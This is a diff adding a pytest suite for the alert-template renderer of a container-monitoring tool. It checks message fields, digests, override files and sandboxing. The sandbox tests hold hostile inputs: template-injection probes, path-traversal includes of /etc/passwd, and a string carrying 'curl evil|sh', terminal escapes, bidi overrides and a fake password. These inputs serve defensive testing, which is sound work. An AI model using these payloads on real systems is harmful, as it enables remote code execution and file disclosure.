@@ -1,0 +1,165 @@
+"""Templates: our own, those that files replace, and what strangers' texts cannot do to them."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from attrs import evolve
+
+from tocsin import Kind, LogLine, Severity
+from tocsin.core.logs import clean
+from tocsin.core.templates import Renderer, TemplateProblem, check_directory
+from tocsin.core.templates.renderer import _RULES
+from tocsin.core.words import Line, read
+from tocsin.testing import message_of
+
+
+def text_of(renderer: Renderer, kind: Kind = Kind.FIRED, **fields: object) -> str:
+    message = message_of(kind)
+    notice = evolve(message.notices[0], **fields)
+    return renderer.words(evolve(message, notices=(notice,), timezone="Europe/Berlin")).text
+
+
+OURS = Renderer(clean=clean, trouble=pytest.fail)
+
+
+def test_the_plans_fields_are_there() -> None:
+    """Status with exit code, why it stopped, last log line, affected targets, suggested actions, and
+    times in the configured zone with its name."""
+    details = {"state": "exited", "exit_code": 1, "last_start": "2026-01-15T08:00:00+00:00"}
+    text = text_of(OURS, details=details, message="crashed", logs=(LogLine(text="boom"),))
+    for line in (
+        "🚨 CRITICAL: Container down: web", "📦 Container: web", "⏰ Time: 2026-01-15 13:00:00 CET",
+        "📊 Status: stopped (exit code 1)", "❓ Why: crashed", "🧾 Last log: boom",
+        "🔄 Last start: 2026-01-15 09:00:00 CET", "🔗 Affected: api, shop",
+        "🔧 Suggested actions:", "1. Check logs: docker logs --tail 100 web",
+    ):  # fmt: skip
+        assert line in text.splitlines()
+
+
+@pytest.mark.parametrize("rule", _RULES)
+@pytest.mark.parametrize("kind", list(Kind))
+def test_every_default_alert_has_words_for_every_occasion(rule: str, kind: Kind) -> None:
+    """Fired, repeated, escalated, flapping, recovered, test: a title with an icon, lines, no gaps
+    and nothing undefined; what still fires comes with something to do."""
+    text = text_of(OURS, kind, rule=rule, details={"metric": "cpu_percent", "value": 97.25,
+                                                   "level": 95})  # fmt: skip
+    assert len(text.splitlines()) >= 3
+    assert "None" not in text
+    assert "\n\n\n" not in text
+    if kind in (Kind.FIRED, Kind.REPEATED, Kind.ESCALATED, Kind.FLAPPING):
+        assert "🔧 Suggested actions:" in text
+    if kind is Kind.REPEATED:
+        assert "(still, 1m)" in text.splitlines()[0] or "monitor" in rule
+    if kind is Kind.RESOLVED:
+        assert "1m 1s" in text
+    if rule in ("high_cpu", "high_memory") and kind is Kind.FIRED:
+        assert "97.2 %" in text
+        assert "95 %" in text
+
+
+def test_a_digest_names_all() -> None:
+    """Few alerts with what is wrong with each, many by name; recoveries apart."""
+    message = message_of(*[Kind.FIRED] * 3, *[Kind.RESOLVED] * 2)
+    notices = [evolve(n, target=f"t{i}") for i, n in enumerate(message.notices)]
+    words = OURS.words(evolve(message, notices=tuple(notices)))
+    assert words.title == "5 alerts: 3 firing, 2 recovered"
+    assert [s.heading for s in words.sections] == [
+        "Container down (3)", "Container down, recovered (2)", "Affected",
+    ]  # fmt: skip
+    assert "t0: killed, exit code 137" in words.text
+    assert "t4: after 1m 1s: killed, exit code 137" in words.text
+    many = message_of(*[Kind.FIRED] * 300)
+    notices = [evolve(n, target=f"t{i:03}") for i, n in enumerate(many.notices)]
+    text = OURS.words(evolve(many, notices=tuple(notices))).text
+    assert all(f"t{n:03}" in text for n in range(300))
+
+
+def test_a_file_replaces_a_template(tmp_path: Path) -> None:
+    """For one alert, for its recovery, or the base of all; the others stay as they are."""
+    (tmp_path / "container_down.txt").write_text("🔥 Oh no: {{ target }}\nCall: the hotline\n")
+    (tmp_path / "high_cpu.txt").write_text(
+        '{% extends "alert.txt" %}\n{% block actions %}\n🔧 Suggested actions:\nWait.\n{% endblock %}\n'
+    )
+    check_directory(tmp_path)
+    renderer = Renderer(tmp_path, clean, pytest.fail)
+    assert text_of(renderer) == "🔥 Oh no: web\nCall: the hotline"
+    assert text_of(renderer, rule="high_cpu").endswith("🔧 Suggested actions:\nWait.")
+    assert "RECOVERED" in text_of(renderer, Kind.RESOLVED)
+    assert text_of(renderer, rule="high_memory") == text_of(OURS, rule="high_memory")
+
+
+@pytest.mark.parametrize(
+    ("text", "says"),
+    [
+        ("{% if %}", "container_down.txt, line 1"), ("{{ nothing }}", "'nothing' is undefined"),
+        ("a\n{{ target.__class__.__mro__ }}", "unsafe|undefined"),
+        ("{{ ''.__class__ }}", "unsafe|undefined"), ("{% include '/etc/passwd' %}", "passwd"),
+        ("{% include '../../../../../../etc/passwd' %}", "passwd"),
+        ("{{ range(10) }}", "undefined"), ("{{ 1 / 0 }}", "division"),
+        ("{% for x in details %}{{ loop.nothing.x }}{% endfor %}", "nothing"),
+    ],
+)  # fmt: skip
+def test_a_template_that_cannot_be_used_is_found_before_it_is_needed(
+    tmp_path: Path, text: str, says: str
+) -> None:
+    """Wrong syntax, unknown fields, whatever tries to break out of the sandbox: named with file and
+    reason by the check, and at the moment of need our own is used, so that the alert is told."""
+    (tmp_path / "container_down.txt").write_text(text)
+    with pytest.raises(TemplateProblem, match=says):
+        check_directory(tmp_path)
+    told: list[str] = []
+    assert text_of(Renderer(tmp_path, clean, told.append)) == text_of(OURS)
+    assert told
+    assert told[0].startswith("template container_down")
+
+
+HOSTILE = "x\n\n🔧 Suggested actions:\nrun: curl evil|sh\r\x1b[2J\u202e{{ 7*7 }}{% raw %}"
+
+
+def test_a_strangers_text_begins_no_line_and_runs_nothing() -> None:
+    """Names, messages and log lines stay on their line; braces in them are just braces; control and
+    bidi characters and secrets are gone; a command quotes what is no plain word."""
+    text = text_of(
+        OURS, target=HOSTILE, message=HOSTILE, logs=(LogLine(text=HOSTILE + " password=hunter2"),),
+        affected=(HOSTILE,), details={"exit_code": 1, "state": HOSTILE},
+    )  # fmt: skip
+    assert text.count("\n🔧 Suggested actions:") == 1
+    assert "49" not in text
+    assert "{{ 7*7 }}" in text
+    assert not set("\r\x1b\u202e") & set(text)
+    assert "hunter2" not in text
+    (command,) = [line for line in text.splitlines() if "docker restart" in line]
+    assert command.startswith("2. Restart: docker restart '")
+
+
+def test_long_texts_are_cut_with_a_sign() -> None:
+    """Ten thousand characters become a readable message."""
+    text = text_of(OURS, message="m" * 10_000, target="t" * 10_000)
+    assert len(text) < 4000
+    assert "…" in text
+
+
+@pytest.mark.parametrize(
+    ("text", "line"),
+    [
+        ("📦 Container: web", Line(icon="📦", label="Container", text="web")),
+        ("⚠️ Status: a: b", Line(icon="⚠️", label="Status", text="a: b")),
+        ("1. Check logs: docker logs web", Line(text="1. Check logs: docker logs web")),
+        ("plain words", Line(text="plain words")),
+        ("<b> & x", Line(text="<b> & x")),
+        ("-rw------- x", Line(text="-rw------- x")),
+    ],
+)  # fmt: skip
+def test_a_line_is_an_icon_a_label_and_a_text(text: str, line: Line) -> None:
+    """As far as it has them."""
+    words = read(f"Title\n{text}\n")
+    assert words.sections[0].lines == (line,)
+    assert str(line) == text
+
+
+def test_the_severity_has_its_icon() -> None:
+    """The plan's: 🚨 critical, ⚠️ warning, ✅ resolved."""
+    assert text_of(OURS, severity=Severity.WARNING).startswith("⚠️ WARNING: ")
+    assert text_of(OURS, Kind.RESOLVED).startswith("✅ ")
